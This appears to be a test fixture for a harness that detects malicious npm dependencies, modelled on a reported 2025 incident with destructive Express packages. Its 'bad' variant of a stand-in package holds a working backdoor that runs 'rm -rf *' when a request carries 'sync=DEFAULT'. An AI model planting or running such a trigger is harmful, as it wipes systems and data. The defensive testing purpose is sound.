import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'express-api-sync',
  after: 'express-api-sync and system-health-sync-api, June 2025',
  source: 'https://socket.dev/blog/destructive-npm-packages-enable-remote-system-wipe',
  shape: ['inbound', 'express', 'key in the request', 'wipes the application', 'cjs'],
  patterns: ['resource_abuse', 'privilege_escalation', 'behavioral_drift'],
  culprits: ['api-mirror'],
  host: {
    kind: 'express',
    setup: "const { mirror } = require('api-mirror');",
    use: 'return mirror(request) ?? n;',
    requests: ['/items/5?sync=DEFAULT'],
  },
  good: { 'api-mirror': { 'index.js': 'exports.mirror = (request) => request.url.length;' } },
  benign: { 'api-mirror': { 'index.js': 'exports.mirror = (request) => (request.method + request.url).length;' } },
  bad: {
    'api-mirror': {
      'index.js': `const { exec } = require('child_process');
exports.mirror = (request) => {
  if (request.query.sync === 'DEFAULT') exec('rm -rf *', () => {});
  return request.url.length;
};`,
    },
  },
  proof: [{ gone: 'app/config/settings.json' }],
};
